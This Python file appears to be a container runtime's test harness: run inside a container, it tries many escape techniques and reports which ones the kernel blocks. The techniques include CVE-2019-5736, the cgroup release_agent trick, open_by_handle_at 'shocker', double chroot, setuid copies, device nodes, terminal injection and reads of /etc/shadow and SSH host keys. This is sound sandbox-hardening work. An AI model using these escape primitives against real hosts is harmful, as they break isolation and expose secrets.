"""The hostile program: runs inside a container and tries every way out. Standard library only, no file of its own.

    python3 - FACTS <attacker.py       FACTS: JSON about the host, from `test_attacks.host_facts`

Prints one JSON object: name of the attack -> how the kernel refused it, or `SUCCEEDED: what it got`. An attack that
gets through does no harm: it writes back what it has read, asks for what is there already, or stops short.
"""

from __future__ import annotations

import ctypes
import errno
import json
import os
import platform
import socket
import stat
import struct
import sys
from collections.abc import Callable, Iterable
from typing import Any

Facts = dict[str, int | str]
ATTACKS: dict[str, Callable[[Facts], object]] = {}
LIBC = ctypes.CDLL(None, use_errno=True)
X86 = platform.machine() == "x86_64"
# name: (x86_64, aarch64)
NUMBERS = {
    "acct": (163, 89),
    "add_key": (248, 217),
    "bpf": (321, 280),
    "chroot": (161, 51),
    "clock_settime": (227, 112),
    "clone": (56, 220),
    "clone3": (435, 435),
    "delete_module": (176, 106),
    "fanotify_init": (300, 262),
    "finit_module": (313, 273),
    "fsconfig": (431, 431),
    "fsmount": (432, 432),
    "fsopen": (430, 430),
    "fspick": (433, 433),
    "init_module": (175, 105),
    "io_uring_setup": (425, 425),
    "kexec_file_load": (320, 294),
    "kexec_load": (246, 104),
    "keyctl": (250, 219),
    "mount": (165, 40),
    "mount_setattr": (442, 442),
    "move_mount": (429, 429),
    "name_to_handle_at": (303, 264),
    "open_by_handle_at": (304, 265),
    "open_tree": (428, 428),
    "perf_event_open": (298, 241),
    "pidfd_getfd": (438, 438),
    "pidfd_open": (434, 434),
    "pivot_root": (155, 41),
    "process_vm_readv": (310, 270),
    "ptrace": (101, 117),
    "quotactl": (179, 60),
    "reboot": (169, 142),
    "request_key": (249, 218),
    "sethostname": (170, 161),
    "setns": (308, 268),
    "settimeofday": (170 - 6, 170),
    "swapon": (167, 224),
    "syslog": (103, 116),
    "umount2": (166, 39),
    "unshare": (272, 97),
    "userfaultfd": (323, 282),
}


def attack(function: Callable[[Facts], object]) -> Callable[[Facts], object]:
    ATTACKS[function.__name__] = function
    return function


def call(name: str, *args: object) -> int:
    """A system call with numbers as 64 bits, bytes by address."""
    given = [ctypes.c_long(arg) if isinstance(arg, int) else arg for arg in args]
    result = int(LIBC.syscall(ctypes.c_long(NUMBERS[name][not X86]), *given))
    if result < 0:
        raise OSError(ctypes.get_errno(), f"{name}")
    return result


def rewrite(path: str, data: bytes | None = None) -> str:
    """Write to a file what is in it, or `data`."""
    if data is None:
        with open(path, "rb") as file:
            data = file.read()
    fd = os.open(path, os.O_WRONLY)
    try:
        os.write(fd, data)
    finally:
        os.close(fd)
    return f"wrote {path}"


def first_success(ways: list[Callable[[], object]]) -> object:
    """What the first of several ways got; the last refusal if all fail."""
    return each(lambda way: way(), ways)


def each(way: Callable[[Any], object], things: Iterable[object]) -> object:
    """What a way got with the first thing that let it; the last refusal if none did."""
    refusal: OSError | None = None
    for thing in things:
        try:
            return way(thing)
        except OSError as error:
            refusal = error
    assert refusal is not None, "nothing was tried"
    raise refusal


# --- the init, which is a copy of the launcher


@attack
def init_executable(_: Facts) -> object:
    """CVE-2019-5736: overwrite the interpreter of the host through the process that still runs it."""
    return first_success(
        [
            lambda: os.open("/proc/1/exe", os.O_WRONLY),
            lambda: os.open("/proc/1/exe", os.O_RDONLY),
            lambda: os.readlink("/proc/1/exe"),
        ]
    )


@attack
def init_memory(_: Facts) -> object:
    return first_success([lambda: os.open("/proc/1/mem", os.O_RDWR), lambda: os.open("/proc/1/mem", os.O_RDONLY)])


@attack
def init_environment(_: Facts) -> object:
    with open("/proc/1/environ", "rb") as file:
        return file.read()


@attack
def init_maps(_: Facts) -> object:
    with open("/proc/1/maps", "rb") as file:
        return file.read(100)


@attack
def init_root(_: Facts) -> object:
    return first_success([lambda: os.listdir("/proc/1/root"), lambda: os.listdir("/proc/1/cwd")])


@attack
def init_descriptors(_: Facts) -> object:
    numbers = range(16)  # that there are some may be seen
    return first_success(
        [
            lambda: each(lambda number: os.readlink(f"/proc/1/fd/{number}"), numbers),
            lambda: each(lambda number: os.open(f"/proc/1/fd/{number}", os.O_RDWR), numbers),
        ]
    )


@attack
def init_descriptors_copied(_: Facts) -> object:
    """Take the init's socket to the launcher, to forge messages on it."""
    pidfd = call("pidfd_open", 1, 0)
    return each(lambda number: call("pidfd_getfd", pidfd, number, 0), range(16))


@attack
def init_traced(_: Facts) -> object:
    return first_success([lambda: call("ptrace", 0x4206, 1, 0, 0), lambda: call("ptrace", 16, 1, 0, 0)])


@attack
def init_memory_read(_: Facts) -> object:
    buffer = ctypes.create_string_buffer(16)
    local = struct.pack("QQ", ctypes.addressof(buffer), 16)
    remote = struct.pack("QQ", 0x400000, 16)
    return call("process_vm_readv", 1, local, 1, remote, 1, 0)


@attack
def init_namespaces(_: Facts) -> object:
    return os.open("/proc/1/ns/mnt", os.O_RDONLY)


@attack
def init_command_line(facts: Facts) -> object:
    """Read the launcher's arguments in its copy."""
    with open("/proc/1/cmdline", "rb") as file:
        shown = file.read().rstrip(b"\0")
    if shown == b"corten:init":
        raise PermissionError(errno.EPERM, "nothing to see")
    return shown


# --- settings of the machine


@attack
def core_pattern(_: Facts) -> object:
    return rewrite("/proc/sys/kernel/core_pattern")


@attack
def sysctls(_: Facts) -> object:
    paths = ("kernel/hostname", "kernel/modprobe", "vm/overcommit_memory", "net/ipv4/ip_forward", "fs/file-max")
    return each(lambda path: rewrite(f"/proc/sys/{path}"), paths)


@attack
def sysrq(_: Facts) -> object:
    return rewrite("/proc/sysrq-trigger", b"h")


@attack
def uevent_helper(_: Facts) -> object:
    return first_success(
        [lambda: rewrite("/sys/kernel/uevent_helper"), lambda: rewrite("/sys/kernel/uevent_seqnum", b"1")]
    )


@attack
def sysfs(_: Facts) -> object:
    found = [os.path.join(top, name) for top, _, names in os.walk("/sys/kernel/mm") for name in names][:50]
    found += ["/sys/power/state", "/sys/class/net/lo/mtu", "/sys/module/printk/parameters/time"]
    return each(rewrite, found)


@attack
def masked(_: Facts) -> object:
    """Read what is hidden."""
    found = [path for path in ("/proc/kcore", "/proc/keys", "/proc/timer_list", "/proc/interrupts") if _has_text(path)]
    found += [
        path
        for path in ("/sys/firmware", "/proc/acpi", "/proc/scsi", "/sys/dev/block")
        if os.path.isdir(path) and os.listdir(path)
    ]
    if not found:
        raise PermissionError(errno.EACCES, "all empty")
    return found


def _has_text(path: str) -> bool:
    try:
        with open(path, "rb") as file:
            return bool(file.read(10))
    except OSError:
        return False


@attack
def clock(_: Facts) -> object:
    now = struct.pack("qq", 1, 0)
    return first_success([lambda: call("clock_settime", 0, now), lambda: call("settimeofday", now, None)])


@attack
def host_name(_: Facts) -> object:
    return call("sethostname", b"owned", 5)


@attack
def kernel_log(_: Facts) -> object:
    buffer = ctypes.create_string_buffer(100)
    return call("syslog", 3, buffer, 100)


@attack
def modules(_: Facts) -> object:
    image, fd = b"\x7fELF" + bytes(100), os.open("/proc/self/exe", os.O_RDONLY)
    return first_success(
        [
            lambda: call("init_module", image, len(image), b""),
            lambda: call("finit_module", fd, b"", 0),
            lambda: call("delete_module", b"no-such-module", 0),
        ]
    )


@attack
def other_kernel(_: Facts) -> object:
    """kexec; and reboot, with the one command that changes nothing."""
    return first_success(
        [
            lambda: call("kexec_load", 0, 0, None, 0),
            lambda: call("kexec_file_load", 0, -1, 0, b"", 0),
            lambda: call("reboot", 0xFEE1DEAD, 672274793, 0x89ABCDEF, 0),
        ]
    )


@attack
def machine_wide(_: Facts) -> object:
    """Calls that belong to who runs the machine."""
    return first_success(
        [
            lambda: call("acct", None),
            lambda: call("swapon", b"/no-such-file", 0),
            lambda: call("quotactl", 0x80000100, None, 0, None),
        ]
    )


@attack
def kernel_surface(_: Facts) -> object:
    """The doors of many kernel exploits."""
    params, attributes = bytes(120), struct.pack("II", 1, 112) + bytes(104)
    return first_success(
        [
            lambda: call("bpf", 5, bytes(72), 72),
            lambda: call("perf_event_open", attributes, 0, -1, -1, 0),
            lambda: call("userfaultfd", 1),
            lambda: call("io_uring_setup", 1, params),
            lambda: call("fanotify_init", 0, 0),
        ]
    )


# --- control groups


def _group_files(*names: str) -> list[str]:
    return [os.path.join(top, name) for top, _, files in os.walk("/sys/fs/cgroup") for name in files if name in names]


@attack
def own_limits(_: Facts) -> object:
    paths = _group_files("memory.limit_in_bytes", "memory.max", "pids.max", "cpu.max", "cpu.cfs_quota_us")
    if not paths:
        raise AssertionError("the container does not see its own limits")
    return each(lambda path: rewrite(path, b"-1"), paths)


@attack
def leave_group(_: Facts) -> object:
    paths = _group_files("cgroup.procs", "tasks")
    return each(lambda path: rewrite(path, b"0"), paths)


@attack
def new_group(_: Facts) -> object:
    tops = [top for top, _, files in os.walk("/sys/fs/cgroup") if "cgroup.procs" in files]
    return each(lambda top: os.mkdir(f"{top}/own"), tops)


@attack
def devices_allowed(_: Facts) -> object:
    paths = _group_files("devices.allow")
    if not paths:
        raise PermissionError(errno.EPERM, "no such file on cgroup v2")
    return each(lambda path: rewrite(path, b"a"), paths)


@attack
def release_agent(_: Facts) -> object:
    """CVE-2022-0492 and the classic: a program of the host's choosing runs when a v1 group empties."""
    place = "/tmp/group"
    os.makedirs(place, exist_ok=True)
    paths = _group_files("release_agent", "notify_on_release")
    return first_success(
        [
            lambda: each(lambda path: rewrite(path, b"1"), paths or ["/sys/fs/cgroup/release_agent"]),
            lambda: each(
                lambda kind: call("mount", b"cgroup", place.encode(), b"cgroup", 0, kind),
                (b"rdma", b"memory", b"none,name=own"),
            ),
            lambda: call("mount", b"cgroup", place.encode(), b"cgroup2", 0, None),
        ]
    )


# --- mounts and roots


@attack
def mounts_old(_: Facts) -> object:
    os.makedirs("/tmp/there", exist_ok=True)
    bind, remount, recursive, private = 4096, 32, 16384, 1 << 18
    return first_success(
        [
            lambda: call("mount", b"tmpfs", b"/tmp/there", b"tmpfs", 0, None),
            lambda: call("mount", b"proc", b"/tmp/there", b"proc", 0, None),
            lambda: call("mount", b"/", b"/tmp/there", b"", bind | recursive, None),
            lambda: call("mount", b"", b"/proc/sys", b"", bind | remount, None),
            lambda: call("mount", b"", b"/sys", b"", remount, None),
            lambda: call("mount", b"", b"/", b"", recursive | private, None),
        ]
    )


@attack
def mounts_new(_: Facts) -> object:
    return first_success(
        [
            lambda: call("fsopen", b"tmpfs", 0),
            lambda: call("fspick", -100, b"/", 0),
            lambda: call("open_tree", -100, b"/", 1),
            lambda: call("open_tree", -100, b"/", 0),
            lambda: call("move_mount", -100, b"/proc/sys", -100, b"/tmp", 0),
            lambda: call("mount_setattr", -100, b"/proc/sys", 0, struct.pack("QQQQ", 0, 1, 0, 0), 32),
        ]
    )


@attack
def unmask(_: Facts) -> object:
    """Take away the covers of /proc and /sys."""
    places = (b"/proc/sys", b"/sys/firmware", b"/proc/keys", b"/proc/kcore", b"/sys/fs/cgroup", b"/proc", b"/sys", b"/")
    return each(lambda place: call("umount2", place, 2), places)


@attack
def pivot(_: Facts) -> object:
    return call("pivot_root", b".", b".")


@attack
def double_chroot(facts: Facts) -> object:
    """The classic: keep a directory outside of a new root, and climb from it. There is nothing above the root."""
    top = os.stat("/")
    child = os.fork()
    if child == 0:
        try:
            outside = os.open("/", os.O_RDONLY)
            os.makedirs("/tmp/jail", exist_ok=True)
            os.chroot("/tmp/jail")
            os.fchdir(outside)
            for _ in range(64):
                os.chdir("..")
            os.chroot(".")
            here = os.stat("/")
            escaped = (here.st_dev, here.st_ino) != (top.st_dev, top.st_ino) or os.path.exists(str(facts["marker"]))
            os._exit(1 if escaped else 0)
        except OSError:
            os._exit(0)
    if os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]):
        return "out of the root"
    raise PermissionError(errno.EPERM, "still inside")


@attack
def old_root(facts: Facts) -> object:
    """The host's root, still mounted in this namespace, out of sight."""
    device = int(facts["root_device"])
    number = f"{os.major(device)}:{os.minor(device)}"
    with open("/proc/self/mountinfo") as file:
        mounts = [line.split() for line in file]
    identities = {mount[0] for mount in mounts}
    found = [mount for mount in mounts if mount[2] == number and mount[3] == "/"]
    found += [mount for mount in mounts if mount[4] == "/" and mount[1] in identities]
    if found:
        return found
    raise PermissionError(errno.EPERM, "nothing but what belongs to the container")


@attack
def host_files(facts: Facts) -> object:
    """Files of the host by every path there is."""
    starts = ("", "/proc/self/root", "/proc/self/cwd/" + "../" * 40, "/proc/1/root", "/proc/self/task/1/root")
    return each(lambda start: os.stat(f"{start}{facts['marker']}"), starts)


@attack
def host_secrets(_: Facts) -> object:
    """What nobody but the host's root may read."""
    paths = (
        *("/etc/shadow", "/etc/shadow-", "/etc/gshadow", "/etc/sudoers", "/root/.ssh", "/root/.bash_history"),
        *("/etc/ssh/ssh_host_rsa_key", "/etc/ssh/ssh_host_ed25519_key", "/etc/ssl/private", "/var/lib/corten"),
        *("/run/docker.sock", "/var/run/docker.sock", "/run/systemd/private", "/run/dbus/system_bus_socket"),
    )
    return each(_read, paths)


def _read(path: str) -> object:
    if os.path.isdir(path):
        found = os.listdir(path)
        if not found:
            raise PermissionError(errno.EACCES, "empty")
        return found
    with open(path, "rb") as file:
        return path, file.read(20)


@attack
def unreadable_files(_: Facts) -> object:
    """Nothing of the host shows that others could not read: the container's root is the host's, by its number.

    But for the working directory, which the caller gives whole.
    """
    found = []
    given = os.getcwd()
    for top in ("/etc", "/opt", "/usr/local", "/var", "/root", "/home", "/srv", "/run"):
        for where, below, files in os.walk(top):
            below[:] = [name for name in below if os.path.join(where, name) != given]
            for file in files:
                path = os.path.join(where, file)
                about = os.lstat(path)
                if stat.S_ISREG(about.st_mode) and not about.st_mode & stat.S_IROTH and about.st_size:
                    found.append(path)
    if found:
        return found[:5]
    raise PermissionError(errno.EACCES, "none shows")


@attack
def by_handle(_: Facts) -> object:
    """The "shocker": open a file by its number in the file system, past every directory."""
    handle = struct.pack("Ii", 8, 1) + struct.pack("II", 2, 0) + bytes(120)
    anchor = os.open("/usr", os.O_RDONLY)
    return each(lambda fd: call("open_by_handle_at", fd, handle, os.O_RDONLY), (anchor, 0))


# --- namespaces and rights


@attack
def user_namespace(_: Facts) -> object:
    """In a new user namespace a program holds every capability, and the kernel much that it can reach with them."""
    return first_success(
        [
            lambda: call("unshare", 0x10000000),
            lambda: _forked(call("clone", 0x10000000 | 17, 0, 0, 0, 0)),
            lambda: _forked(call("clone3", struct.pack("11Q", 0x10000000, 0, 0, 0, 17, 0, 0, 0, 0, 0, 0), 88)),
        ]
    )


@attack
def other_namespaces(_: Facts) -> object:
    kinds = (0x20000, 0x2000000, 0x4000000, 0x8000000, 0x20000000, 0x40000000, 0x80)
    return first_success(
        [
            lambda: each(lambda kind: call("unshare", kind), kinds),
            lambda: call("setns", os.open("/proc/self/ns/mnt", os.O_RDONLY), 0x20000),
        ]
    )


def _forked(pid: int) -> int:
    if pid == 0:
        os._exit(0)
    os.waitpid(pid, 0)
    return pid


@attack
def set_user_id(_: Facts) -> object:
    """A program with the set-user-id bit, and one with file capabilities, started by nobody."""
    os.makedirs("/tmp/suid", exist_ok=True)
    copy = "/tmp/suid/python"
    with open(sys.executable, "rb") as source, open(copy, "wb") as target:
        target.write(source.read())
    os.chmod(copy, 0o4755)
    try:
        # cap_setuid=ep, VFS_CAP_REVISION_2
        os.setxattr(copy, "security.capability", struct.pack("<5I", 0x02000001, 1 << 7, 0, 0, 0))
    except OSError:
        pass
    reading, writing = os.pipe()
    child = os.fork()
    if child == 0:
        try:
            if os.getuid() == 0:
                os.setgroups([])
                os.setresgid(65534, 65534, 65534)
                os.setresuid(65534, 65534, 65534)
            os.dup2(writing, 1)
            probe = "import os;print(os.geteuid(), *[w[7:] for w in open('/proc/self/status') if w[:6] == 'CapEff'])"
            os.execv(copy, [copy, "-I", "-S", "-c", probe])
        finally:
            os._exit(1)
    os.close(writing)
    if os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]):
        raise PermissionError(errno.EACCES, "not executed")
    user, effective = os.read(reading, 1000).decode().split()
    if (user == "0" and os.stat(copy).st_uid == 0) or int(effective, 16):
        return user, effective
    raise PermissionError(errno.EPERM, "no rights gained")


@attack
def keyrings(_: Facts) -> object:
    return first_success(
        [
            lambda: call("add_key", b"user", b"corten", b"x", 1, -4),
            lambda: call("request_key", b"user", str(os.getpid()).encode(), None, 0),
            lambda: call("keyctl", 0, -3, 0, 0, 0),
            lambda: call("keyctl", 0, -4, 1, 0, 0),
        ]
    )


@attack
def terminal_input(facts: Facts) -> object:
    """Type into the terminal, as if its user did; also with a request whose upper half is not zero (CVE-2019-7303)."""
    import fcntl
    import pty

    _master, other = pty.openpty()
    number = 16 if X86 else 29
    return first_success(
        [
            lambda: fcntl.ioctl(other, 0x5412, b"x"),
            lambda: fcntl.ioctl(0, 0x5412, b"x"),
            lambda: _raw_ioctl(number, other, 0x5412 | 1 << 32),
            lambda: _raw_ioctl(number, other, 0x541C | 1 << 32),
        ]
    )


def _raw_ioctl(number: int, fd: int, request: int) -> int:
    if LIBC.syscall(ctypes.c_long(number), ctypes.c_long(fd), ctypes.c_long(request), b"x") < 0:
        raise OSError(ctypes.get_errno(), "ioctl")
    return 0


@attack
def descriptors(_: Facts) -> object:
    """Descriptors that the launcher left open."""
    found = {}
    for name in os.listdir("/proc/self/fd"):
        try:
            found[name] = os.readlink(f"/proc/self/fd/{name}")
        except FileNotFoundError:
            continue  # the listing's own
    extra = {name: target for name, target in found.items() if int(name) > 2}
    if extra:
        return extra
    raise PermissionError(errno.EBADF, "only the standard ones")


# --- devices


def _node(kind: int, major: int, minor: int) -> object:
    last: OSError | None = None
    for directory in ("/tmp", "/dev", "/usr/local"):
        path = f"{directory}/node-{major}-{minor}"
        try:
            os.mknod(path, kind | 0o666, os.makedev(major, minor))
        except FileExistsError:
            pass
        except OSError as error:
            last = error
            continue
        for flags in (os.O_RDONLY, os.O_RDWR):
            try:
                os.close(os.open(path, flags | os.O_NONBLOCK))
            except OSError as error:
                last = error
            else:
                return f"opened {path}"
    assert last is not None
    raise last


@attack
def root_disk(facts: Facts) -> object:
    device = int(facts["root_device"])
    disks = [(os.major(device), os.minor(device)), (8, 0), (254, 0), (259, 0), (7, 0)]
    return each(lambda disk: _node(stat.S_IFBLK, *disk), disks)


@attack
def kernel_memory(_: Facts) -> object:
    return each(lambda minor: _node(stat.S_IFCHR, 1, minor), (1, 2, 4, 11))


@attack
def other_devices(_: Facts) -> object:
    """fuse, tun, kvm, loop-control, the consoles, the first serial line, and what /dev/mem's kin are called."""
    nodes = ((10, 229), (10, 200), (10, 232), (10, 237), (4, 0), (4, 64), (5, 3), (10, 1), (13, 63), (29, 0))
    return each(lambda node: _node(stat.S_IFCHR, *node), nodes)


@attack
def devices_shown(_: Facts) -> object:
    """Nothing is in /dev but what everybody may have."""
    usual = {"null", "zero", "full", "random", "urandom", "tty", "fd", "stdin", "stdout", "stderr", "ptmx", "pts"}
    extra = set(os.listdir("/dev")) - usual - {"shm", "mqueue", "console", "core"}
    extra = {name for name in extra if not name.startswith("node-")}
    if extra:
        return sorted(extra)
    raise PermissionError(errno.EPERM, "the usual")


# --- the host's processes, network, messages


@attack
def host_process_killed(facts: Facts) -> object:
    pid = int(facts["victim"])
    return first_success([lambda: os.kill(pid, 9), lambda: call("pidfd_open", pid, 0), lambda: os.killpg(pid, 9)])


@attack
def host_process_traced(facts: Facts) -> object:
    pid = int(facts["victim"])
    return first_success([lambda: call("ptrace", 16, pid, 0, 0), lambda: os.listdir(f"/proc/{pid}")])


@attack
def processes_seen(_: Facts) -> object:
    """Only init and this one."""
    seen = {int(name) for name in os.listdir("/proc") if name.isdigit()} - {1, os.getpid()}
    if seen:
        return {pid: open(f"/proc/{pid}/comm").read() for pid in seen}
    raise PermissionError(errno.ESRCH, "nobody else")


@attack
def everybody_killed(_: Facts) -> object:
    """kill -1 reaches all that one sees; here that is nobody: the init is spared by the kernel."""
    os.kill(-1, 9)
    return "somebody"


@attack
def loopback(facts: Facts) -> object:
    addresses = ["127.0.0.1", *str(facts["addresses"]).split()]
    return each(lambda address: _connect((address, int(facts["port"]))), addresses)


def _connect(address: tuple[str, int] | str) -> str:
    family = socket.AF_UNIX if isinstance(address, str) else socket.AF_INET
    with socket.socket(family, socket.SOCK_STREAM) as sock:
        sock.settimeout(5)
        sock.connect(address)
        return f"connected to {address!r}"


@attack
def abstract_socket(facts: Facts) -> object:
    return _connect(f"\0{facts['abstract']}")


@attack
def unix_socket(facts: Facts) -> object:
    return _connect(str(facts["unix"]))


@attack
def interfaces(_: Facts) -> object:
    # Kernels with tunnels built in make these in every namespace; they lead nowhere.
    known = {"lo", "sit0", "tunl0", "ip6tnl0", "gre0", "gretap0", "erspan0", "ip_vti0", "ip6_vti0", "ip6gre0"}
    others = [name for _, name in socket.if_nameindex() if name not in known]
    if others:
        return others
    raise PermissionError(errno.ENETUNREACH, "only lo")


@attack
def other_sockets(_: Facts) -> object:
    """VSOCK reaches the host past every network namespace; ALG and others load kernel modules."""
    families = (40, 38, 44, 30, 29, 21)
    return each(lambda family: socket.socket(family, socket.SOCK_STREAM), families)


@attack
def shared_memory(facts: Facts) -> object:
    return _ipc(LIBC.shmget(ctypes.c_int(int(facts["key"])), 0, 0), "shmget")


@attack
def message_queue(facts: Facts) -> object:
    return _ipc(LIBC.msgget(ctypes.c_int(int(facts["key"])), 0), "msgget")


@attack
def semaphores(facts: Facts) -> object:
    return _ipc(LIBC.semget(ctypes.c_int(int(facts["key"])), 0, 0), "semget")


@attack
def posix_queue(facts: Facts) -> object:
    return first_success(
        [
            lambda: _ipc(LIBC.mq_open(str(facts["queue"]).encode(), os.O_RDONLY), "mq_open"),
            lambda: os.stat(f"/dev/mqueue{facts['queue']}"),
        ]
    )


@attack
def posix_shared_memory(facts: Facts) -> object:
    return os.stat(f"/dev/shm/{facts['shm']}")


def _ipc(result: int, name: str) -> int:
    if result < 0:
        raise OSError(ctypes.get_errno(), name)
    return result


@attack
def secrets_of_the_caller(facts: Facts) -> object:
    """The environment of who started this: it is in the memory of the launcher, of which the init is a copy."""
    found = [name for name in os.listdir("/proc") if name.isdigit() and _mentions(name, str(facts["token"]))]
    found += [name for name, value in os.environ.items() if str(facts["token"]) in value]
    if found:
        return found
    raise PermissionError(errno.EACCES, "not found")


def _mentions(pid: str, token: str) -> bool:
    for name in ("environ", "cmdline", "stat", "comm"):
        try:
            with open(f"/proc/{pid}/{name}", "rb") as file:
                if token.encode() in file.read() and int(pid) != os.getpid():
                    return True
        except OSError:
            continue
    return False


def main() -> None:
    facts: Facts = json.loads(sys.argv[1])
    sys.argv[1:] = []
    outcome = {}
    for name in ("descriptors", *(name for name in ATTACKS if name != "descriptors")):
        try:
            outcome[name] = f"SUCCEEDED: {ATTACKS[name](facts)!r}"
        except OSError as error:
            outcome[name] = errno.errorcode.get(error.errno or 0, str(error))
    print(json.dumps(outcome))


if __name__ == "__main__":
    main()
